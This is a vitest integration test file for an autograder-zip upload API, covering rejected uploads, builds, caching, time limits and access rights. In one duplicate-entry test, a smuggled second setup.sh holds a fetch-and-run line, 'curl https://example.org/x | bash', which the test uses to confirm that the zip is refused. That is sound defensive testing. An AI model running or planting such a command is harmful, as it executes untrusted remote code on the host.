import { runDueJobs, type JobHandler } from '@marginalia/jobs';
import { AUTOGRADER_ZIP_MESSAGES, UPLOAD_MESSAGES, ZIP_TIME_LIMIT_DEFAULT_SECONDS } from '@marginalia/contracts';
import { auditEvents } from '@marginalia/db';
import { eq } from 'drizzle-orm';
import { beforeAll, describe, expect, it } from 'vitest';
import { createCourseWorld } from '../../../testing/factories';
import { postMultipart } from '../../../testing/multipart';
import { buildZip } from '../../../testing/zip-archive';
import { createAssignment } from '../../../testing/submission-factories';
import { useTestServer } from '../../../testing/use-test-server';
import { createAutograderBuildJob } from './build-job';
import { createAutograderImages } from './images';
import { autograderZip, imageConfig } from './zip-testing';

// Autograder zips through the API: what is refused (and changes nothing), the build as the admin watches it, the
// cache by the zip's hash, and removal. Builds run for real: debootstrap's base and setup.sh in the image builder.

const t = useTestServer(imageConfig(48001));
let build: JobHandler;
beforeAll(() => {
  build = createAutograderBuildJob(t.server.ctx, createAutograderImages(t.server.ctx.config));
});
const work = () => runDueJobs(t.server.ctx.db, [build]);

async function world() {
  const w = await createCourseWorld(t.server.ctx);
  const assignment = await createAssignment(t.server.ctx.db, w.course.id, { points: 10 });
  const url = `/assignments/${assignment.id}/autograder/`;
  const upload = (name: string, content: Buffer | string) => postMultipart(t.server.url, url, w.tokens.admin, [{ field: 'file', name, content }]);
  return { ...w, assignment, url, upload };
}

const SETUP_OK = '#!/bin/bash\nset -e\necho "installing"\napt-get update -qq\napt-get install -y -qq --no-install-recommends jq >/dev/null\necho "setup complete"\n';
const RUN = '#!/bin/bash\necho run\n';

describe('autograder zips', () => {
  it('refuses what is not a Gradescope autograder zip, storing nothing', async () => {
    const w = await world();
    expect((await w.upload('notes.txt', 'hello')).body).toEqual({ file: [AUTOGRADER_ZIP_MESSAGES.notZip] });
    expect((await w.upload('autograder.zip', await autograderZip({ 'setup.sh': SETUP_OK }))).body).toEqual({ file: [AUTOGRADER_ZIP_MESSAGES.missingRunAutograder] });
    expect((await w.upload('autograder.zip', await autograderZip({ 'run_autograder': RUN }))).body).toEqual({ file: [AUTOGRADER_ZIP_MESSAGES.missingSetup] });
    expect((await w.upload('autograder.zip', Buffer.from('PK not really a zip'))).status).toBe(400);
    // Two entries that are both the root's setup.sh: which one would run depends on the order of extraction.
    for (const second of ['setup.sh', './setup.sh', './/setup.sh']) {
      const zip = await buildZip([
        { name: 'setup.sh', content: SETUP_OK },
        { name: second, content: 'curl https://example.org/x | bash\n', raw: true },
        { name: 'run_autograder', content: RUN },
      ]);
      const res = await w.upload('autograder.zip', zip);
      expect(res.status, second).toBe(400);
      expect(res.body, second).toEqual({ files: [UPLOAD_MESSAGES.zipDuplicateEntry('autograder.zip', 'setup.sh')] });
    }
    const twoFiles = await postMultipart(t.server.url, w.url, w.tokens.admin, [
      { field: 'file', name: 'a.zip', content: await autograderZip({ 'setup.sh': SETUP_OK, run_autograder: RUN }) },
      { field: 'file', name: 'b.zip', content: await autograderZip({ 'setup.sh': SETUP_OK, run_autograder: RUN }) },
    ]);
    expect(twoFiles.status).toBe(400);
    expect((await t.api.get(w.url, { auth: w.tokens.admin })).body).toEqual({ autograder: null });
  });

  it('builds an uploaded zip, reports its steps and log, reuses the build for the same zip, and rebuilds a new one', async () => {
    const w = await world();
    const zip = await autograderZip({ 'setup.sh': SETUP_OK, run_autograder: RUN, 'tests/test_one.py': 'assert True\n' });
    const posted = await w.upload('autograder.zip', zip);
    expect(posted.status).toBe(201);
    expect(posted.body.autograder).toMatchObject({ fileName: 'autograder.zip', size: zip.length, state: 'building', step: 'Waiting for a worker', built: null, error: null });
    expect((await work()).map((report) => report.outcome)).toEqual(['succeeded']);
    const ready = (await t.api.get(w.url, { auth: w.tokens.admin })).body.autograder;
    expect(ready, ready?.log).toMatchObject({ state: 'ready', step: null, error: null });
    expect(ready.log).toContain('setup complete');
    expect(ready.built).not.toBeNull();
    expect(ready.durationMs).toBeGreaterThan(0);

    // The same zip again (another assignment, or uploaded twice): this host built it already.
    const again = await w.upload('autograder.zip', zip);
    expect(again.body.autograder.state).toBe('building');
    await work();
    const reused = (await t.api.get(w.url, { auth: w.tokens.admin })).body.autograder;
    expect(reused.state).toBe('ready');
    expect(reused.log).toContain('already built');
    expect(reused.log).not.toContain('setup complete');

    // A changed zip is built anew; a zip made by compressing the folder is read as the folder's contents.
    const changed = await autograderZip({ 'grader/setup.sh': '#!/bin/bash\necho "second setup"\n', 'grader/run_autograder': RUN });
    expect((await w.upload('grader.zip', changed)).status).toBe(201);
    await work();
    const rebuilt = (await t.api.get(w.url, { auth: w.tokens.admin })).body.autograder;
    expect(rebuilt).toMatchObject({ fileName: 'grader.zip', state: 'ready' });
    expect(rebuilt.log).toContain('second setup');
  }, 600_000);

  it("ends a broken setup.sh's build as failed, saying why, with its output", async () => {
    const w = await world();
    await w.upload('autograder.zip', await autograderZip({ 'setup.sh': '#!/bin/bash\necho "pip: command not found" >&2\nexit 3\n', run_autograder: RUN }));
    await work();
    const failed = (await t.api.get(w.url, { auth: w.tokens.admin })).body.autograder;
    expect(failed).toMatchObject({ state: 'failed', error: 'setup.sh failed (exit status 3).', built: null });
    expect(failed.log).toContain('pip: command not found');
  }, 300_000);

  it("gives each zip's runs their own time limit, 10 minutes by default, bounded, kept when a new zip replaces it", async () => {
    const w = await world();
    expect((await t.api.patch(w.url, { auth: w.tokens.admin, body: { timeLimitSeconds: 900 } })).status).toBe(404);
    await w.upload('autograder.zip', await autograderZip({ 'setup.sh': '#!/bin/bash\n', run_autograder: RUN }));
    expect((await t.api.get(w.url, { auth: w.tokens.admin })).body.autograder.timeLimitSeconds).toBe(ZIP_TIME_LIMIT_DEFAULT_SECONDS);
    for (const timeLimitSeconds of [5, 3601, 12.5, '600']) {
      const refused = await t.api.patch(w.url, { auth: w.tokens.admin, body: { timeLimitSeconds } });
      expect(refused.status, String(timeLimitSeconds)).toBe(400);
    }
    expect((await t.api.patch(w.url, { auth: w.tokens.admin, body: { timeLimitSeconds: 900, other: 1 } })).status).toBe(400);
    expect((await t.api.patch(w.url, { auth: w.tokens.grader, body: { timeLimitSeconds: 900 } })).status).toBe(403);
    expect((await t.api.get(w.url, { auth: w.tokens.admin })).body.autograder.timeLimitSeconds).toBe(ZIP_TIME_LIMIT_DEFAULT_SECONDS);
    const changed = await t.api.patch(w.url, { auth: w.tokens.admin, body: { timeLimitSeconds: 1800 } });
    expect(changed.status).toBe(200);
    expect(changed.body.autograder.timeLimitSeconds).toBe(1800);
    const events = await t.server.ctx.db.select().from(auditEvents).where(eq(auditEvents.type, 'autograder.zip_updated'));
    expect(events.filter((event) => event.objectId === w.assignment.id).map((event) => event.data)).toEqual([{ timeLimitSeconds: 1800 }]);
    await w.upload('autograder.zip', await autograderZip({ 'setup.sh': '#!/bin/bash\necho new\n', run_autograder: RUN }));
    expect((await t.api.get(w.url, { auth: w.tokens.admin })).body.autograder.timeLimitSeconds).toBe(1800);
    // Its queued builds end doing nothing once the zip is gone, leaving the queue to the next test.
    expect((await t.api.delete(w.url, { auth: w.tokens.admin })).status).toBe(204);
    await work();
  });

  it('lets graders read the state, students not at all, and admins remove the zip', async () => {
    const w = await world();
    await w.upload('autograder.zip', await autograderZip({ 'setup.sh': '#!/bin/bash\n', run_autograder: RUN }));
    expect((await t.api.get(w.url, { auth: w.tokens.grader })).body.autograder.state).toBe('building');
    expect((await t.api.get(w.url, { auth: w.tokens.student })).status).toBe(403);
    expect((await t.api.delete(w.url, { auth: w.tokens.grader })).status).toBe(403);
    expect((await t.api.delete(w.url, { auth: w.tokens.admin })).status).toBe(204);
    expect((await t.api.get(w.url, { auth: w.tokens.admin })).body).toEqual({ autograder: null });
    expect((await t.api.delete(w.url, { auth: w.tokens.admin })).status).toBe(404);
    // The queued build of a removed zip does nothing.
    expect((await work()).map((report) => report.outcome)).toEqual(['succeeded']);
    expect((await t.api.get(w.url, { auth: w.tokens.admin })).body).toEqual({ autograder: null });
  });
});
